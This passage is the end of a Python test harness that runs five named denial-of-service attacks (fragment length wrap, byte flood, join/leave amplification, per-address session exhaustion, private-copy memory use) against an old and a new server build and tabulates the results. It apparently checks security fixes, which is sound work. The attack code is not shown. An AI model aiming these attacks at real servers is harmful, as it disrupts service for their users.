        }
    finally:
        for s in raws:
            s.close()
        for h in members:
            h.close()
        for t in talkers:
            t.close()
        if watcher:
            watcher.stop()
        srv.stop()


# ---- the table ---------------------------------------------------------------------------

def main():
    def stop(sig, frame):  # cleanup (servers, sockets) runs in the finally blocks
        raise SystemExit(f"signal {sig}")
    signal.signal(signal.SIGTERM, stop)
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("old")
    ap.add_argument("new")
    ap.add_argument("--only", default="1,2,3,4,5", help="attacks to run, e.g. 1,3")
    ap.add_argument("--members", type=int, default=900, help="legacy members for attack 3")
    ap.add_argument("--cycles", type=int, default=100, help="join-then-close cycles for attack 3")
    a = ap.parse_args()
    only = set(a.only.split(","))
    plan = []
    if "1" in only:
        plan.append(("1 fragment length wraps", attack1))
    if "2" in only:
        plan.append(("2 bytes flood vs slow member", attack2))
        plan.append(("2 bytes flood vs slow member",
                     lambda b: attack2(b, ("--max-clients", "100"), 256 * 1024,
                                       "--max-clients 100: queue limit 2 MB")))
    if "3" in only:
        plan.append((f"3 join/leave amplification ({a.members} legacy members)",
                     lambda b: attack3(b, a.members, a.cycles, f"{a.cycles} cycles")))
        plan.append(("3 join/leave amplification (100 legacy members)",
                     lambda b: attack3(b, 100, None, "as many cycles as it can in 30 s", 30)))
    if "4" in only:
        plan.append(("4 sessions from one address (--max-clients 20)", attack4))
        plan.append(("4 sessions from one address (--max-clients 20)", attack4_joined))
        plan.append(("4 sessions from one IPv6 /64", attack4_ipv6))
    if "5" in only:
        plan.append(("5 private copies: history", attack5a))
        plan.append(("5 private copies: long-poll replies", attack5b))
    rows = []  # (attack, measure, before, after)
    for name, fn in plan:
        got = {}
        for side, binary in (("before", a.old), ("after", a.new)):
            log(f"attack {name}: {side} ({binary})")
            t = time.monotonic()
            try:
                got[side] = fn(binary)
            except Exception as e:  # a failed attack is a row saying so, not a crash
                got[side] = {"error": f"{e.__class__.__name__}: {e}"[:200]}
            log(f"  took {time.monotonic() - t:.0f} s: {got[side]}")
        for measure in dict.fromkeys(list(got["before"]) + list(got["after"])):
            rows.append((name, measure, got["before"].get(measure, "-"),
                         got["after"].get(measure, "-")))
    head = ("attack", "measure", "before", "after")
    widths = [max(len(str(r[i])) for r in rows + [head]) for i in range(4)]
    print()
    print(" | ".join(h.ljust(w) for h, w in zip(head, widths)))
    print("-+-".join("-" * w for w in widths))
    for r in rows:
        print(" | ".join(str(c).ljust(w) for c, w in zip(r, widths)))


if __name__ == "__main__":
    main()
